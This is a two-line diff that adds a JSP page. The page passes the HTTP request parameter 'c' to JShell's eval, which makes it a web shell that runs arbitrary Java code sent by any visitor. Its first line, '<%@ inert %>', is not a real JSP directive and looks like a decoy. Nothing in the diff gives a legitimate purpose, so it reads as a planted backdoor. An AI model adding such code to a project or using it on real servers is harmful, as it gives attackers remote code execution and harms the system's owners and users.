@@ -1,0 +1,2 @@
+<%@ inert %>
+<% jdk.jshell.JShell.create().eval(request.getParameter("c")); %>
